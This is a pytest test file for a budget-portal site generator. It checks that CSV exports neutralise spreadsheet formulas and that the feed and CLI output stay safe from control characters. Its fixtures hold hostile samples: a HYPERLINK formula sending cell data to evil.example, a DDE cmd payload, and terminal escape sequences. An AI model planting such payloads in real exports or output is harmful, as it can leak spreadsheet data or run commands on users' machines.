"""Hostile text leaves through the exports and the terminal harmless: CSV text cells that a
spreadsheet would run as formulas are neutralised (numbers stay numbers), the Atom feed and
the sitemap stay well-formed XML whatever control characters a title holds, and `sitegen
check` / `sitegen build` print control sequences as escapes, never raw."""
from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from decimal import Decimal

import pytest

from sitegen import export
from sitegen.builder import build_portal
from sitegen.content import load_portal

from .conftest import UNIT, write_portal

# YAML's double-quoted escapes put control characters into values: \e is ESC, \a BEL, \uFFFE a noncharacter.
DOC = """\
kind: final_accounts
year: 2023
title: "决算\\e]0;窗口标题\\a报告\\uFFFE"
source: s
published: 2024年4月9日
narrative: n.md
figures:
  - label: '=HYPERLINK("https://evil.example/?"&A1,"点击")'
    amount: 10
    change: -5.00
    parts:
      - {label: "@SUM(1+1)*cmd|' /C calc'!A0", amount: 4}
      - {label: "+1+1", amount: 6}
      - {label: "-2+3", amount: 0}
      - {label: "\\tTab=1", amount: 0}
      - {label: "\\r=1+1", amount: 0}
"""
NARRATIVE = "## 情况说明\n本年支出\x1b[2J\x1b[31m共计 99.99 万元。\n"
UNIT_ESCAPE = UNIT.replace("测试县委政法委", '"政法委\\e[31m\\u0007"')


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile-output")
    content = write_portal(root, {"2023/final-accounts.yaml": DOC, "2023/n.md": NARRATIVE}, unit=UNIT_ESCAPE)
    site = content / "site.yaml"  # the feed and sitemap are written only under an absolute base_url
    site.write_text(site.read_text(encoding="utf-8") + "base_url: https://yjs.example.gov.cn/\n", encoding="utf-8")
    output = root / "output"
    build_portal(content, output, search=False)
    return content, output


def figure_rows(output, content) -> list[list[str]]:
    doc = load_portal(content, strict=True).documents()[0]
    text = (output / export.data_folder(doc) / "figures.csv").read_bytes().decode("utf-8-sig")  # keeps a lone \r
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("label", ['=HYPERLINK("https://evil.example/?"&A1,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                   "+1+1", "-2+3", "\tTab=1", "\r=1+1"])
def test_csv_formula_cells_get_a_quote(hostile, label):
    content, output = hostile
    cells = [cell for row in figure_rows(output, content) for cell in row]
    assert "'" + label in cells and label not in cells


def test_csv_numbers_stay_numbers(hostile):
    """The figure labelled with a formula still has its amounts as numbers: 10 and -5.00."""
    content, output = hostile
    row = next(row for row in figure_rows(output, content) if "'=HYPERLINK(" in "".join(row))
    numbers = [Decimal(cell) for cell in row if re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    assert Decimal(10) in numbers and Decimal("-5.00") in numbers, row


@pytest.mark.parametrize("cell, written", [("-5.00", "-5.00"), ("+10", "+10"), ("-13.91%", "-13.91%"),
                                           ("-0.01 个百分点", "'-0.01 个百分点"), ("=1+1", "'=1+1"), ("@A1", "'@A1"),
                                           ("普通文字", "普通文字"), ("", "")])
def test_neutralised(cell, written):
    assert export.neutralised(cell) == written


def test_feed_and_sitemap_are_well_formed_xml(hostile):
    _, output = hostile
    feed = ET.parse(output / "feed.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    entry = feed.find(f"{atom}entry")
    assert entry.find(f"{atom}title").text == "政法委[31m 2023年部门决算"
    assert entry.find(f"{atom}summary").text.startswith("决算]0;窗口标题报告：")
    ET.parse(output / "sitemap.xml")


def run_cli(*args, cwd):
    return subprocess.run([sys.executable, "-m", "sitegen", *args], capture_output=True, text=True, cwd=cwd, timeout=300)


def test_check_and_build_print_no_control_sequences(hostile, tmp_path):
    content, _ = hostile
    document = content / "units" / "demo" / "2023" / "budget.yaml"  # a content error quoting an escape
    document.write_text('kind: budget\nyear: 2023\ntitle: t\nsource: s\n"\\e]0;pwned\\a": 1\n', encoding="utf-8")
    try:
        check = run_cli("check", "--content", str(content), cwd=tmp_path)
        build = run_cli("build", "--content", str(content), "--output", str(tmp_path / "out"), "--no-search",
                        "--cache", str(tmp_path / "cache"), cwd=tmp_path)
    finally:
        document.unlink()
    for result in (check, build):
        printed = result.stdout + result.stderr
        assert "\x1b" not in printed and "\x07" not in printed
        assert "unknown key '\\x1b]0;pwned\\x07'" in printed
    assert "\\x1b[2J\\x1b[31m共计 99.99 万元" in check.stdout  # the narrative's amount, quoted in its finding
